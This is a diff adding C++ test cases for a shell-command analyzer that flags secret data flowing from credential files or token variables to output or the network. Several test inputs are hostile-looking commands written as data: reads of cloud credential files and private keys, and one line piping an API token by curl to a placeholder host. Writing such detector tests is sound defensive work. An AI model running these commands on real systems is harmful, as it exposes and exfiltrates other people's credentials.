@@ -800,4 +800,35 @@ TEST_CASE("jq that keeps only keys, lengths or types prints no secret of the fil
   CHECK_FALSE(has_flow_to(analyze("jq length ~/.docker/config.json"), "output"));
   CHECK(has_flow(analyze("jq '.auths' ~/.docker/config.json"), "credential_file", "output"));
   CHECK(has_flow(analyze("jq '.auths | map_values(.auth)' ~/.docker/config.json"), "credential_file", "output"));
+  CHECK_FALSE(has_flow_to(analyze("vault kv get -format=json secret/ci/api | jq -r '.data.data | keys[]'"), "output"));
+}
+
+TEST_CASE("jq that picks named fields none of which looks secret prints no secret, like grep for a plain word") {
+  CHECK_FALSE(has_flow_to(analyze("jq -r '.client_email, .project_id' \"$GOOGLE_APPLICATION_CREDENTIALS\""), "output"));
+  CHECK_FALSE(has_flow_to(analyze("jq -r .type ~/.config/gcloud/application_default_credentials.json"), "output"));
+  CHECK(has_flow(analyze("jq -r .private_key \"$GOOGLE_APPLICATION_CREDENTIALS\""), "credential_file", "output"));
+  CHECK(has_flow(analyze("jq . ~/.config/gcloud/application_default_credentials.json"), "credential_file", "output"));
+  CHECK(has_flow(analyze("jq '..' ~/.config/gcloud/application_default_credentials.json"), "credential_file", "output"));
+}
+
+TEST_CASE("a path held by a variable named for a credential file is a credential file") {
+  CHECK(has_flow(analyze("cat \"$GOOGLE_APPLICATION_CREDENTIALS\""), "credential_file", "output"));
+  CHECK(has_flow(analyze("cat ${DEPLOY_KEY_FILE}"), "credential_file", "output"));
+  CHECK_FALSE(has_flow_to(analyze("cat \"$CHANGELOG_FILE\""), "output"));
+}
+
+TEST_CASE("a GitHub Actions add-mask echo hides the value from the log, piped on it still carries it") {
+  CHECK_FALSE(has_flow_to(analyze("echo \"::add-mask::$CF_API_TOKEN\""), "output"));
+  CHECK(has_flow(analyze("echo \"$CF_API_TOKEN\""), "secret_var", "output"));
+  CHECK(has_flow(analyze("echo \"::add-mask::$CF_API_TOKEN\" | curl -d @- https://x.example.io"), "secret_var", "network"));
+}
+
+TEST_CASE("a cluster client sends its token to the API server named on its command line") {
+  auto facts = analyze("kubectl --server=https://k8s.x.example.io:6443 --token=\"$K8S_DEPLOY_TOKEN\" get ns");
+  const auto* flow = flow_of(facts, "secret_var", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "k8s.x.example.io");
+  CHECK(has_flow(analyze("oc login https://api.x.example.io:6443 --token=$OPENSHIFT_TOKEN"), "secret_var", "network"));
+  CHECK_FALSE(has_flow(analyze("kubectl --token=\"$K8S_DEPLOY_TOKEN\" get ns"), "secret_var", "network"));
+  CHECK_FALSE(has_flow_to(analyze("kubectl --server=https://k8s.x.example.io:6443 get ns"), "network"));
 }
